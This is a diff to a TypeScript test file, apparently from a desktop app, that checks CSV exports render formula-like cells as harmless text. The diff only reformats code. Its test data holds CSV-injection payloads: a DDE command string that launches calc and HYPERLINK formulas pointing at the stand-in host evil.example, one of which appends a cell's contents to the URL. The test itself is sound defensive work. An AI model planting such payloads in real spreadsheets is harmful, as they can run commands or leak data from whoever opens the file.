@@ -9,7 +9,7 @@ import { parseCsv } from '../../electron/services/csv.ts';
 import { openDatabase } from '../../db/open.ts';
 import { tmpDbPath } from '../helpers.ts';
 
-const HOSTILE = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1;"klik")', '+45 12 34', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+const HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1;"klik")', '+45 12 34', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
 
 /** The cells of a CSV text, unquoted as Excel reads them. */
 function cells(text: string, sep: ';' | ','): string[] {
@@ -38,8 +38,22 @@ describe('safe CSV out', () => {
 
   test('the SOR check report (CSV): a unit named like a formula is text', () => {
     const r = {
-      checkDate: '2026-11-30', snapshotDate: '2026-11-01', units: 1, skippedRules: [],
-      findings: [{ rule: 'PE-X', severity: 'error' as const, sorId: '1', name: '=HYPERLINK("http://evil.example")', message: '+besked', guide: '-', suggestion: '@handling', related: [] }],
+      checkDate: '2026-11-30',
+      snapshotDate: '2026-11-01',
+      units: 1,
+      skippedRules: [],
+      findings: [
+        {
+          rule: 'PE-X',
+          severity: 'error' as const,
+          sorId: '1',
+          name: '=HYPERLINK("http://evil.example")',
+          message: '+besked',
+          guide: '-',
+          suggestion: '@handling',
+          related: [],
+        },
+      ],
       preview: null,
     };
     const all = cells(findingsCsv(r as never), ';');
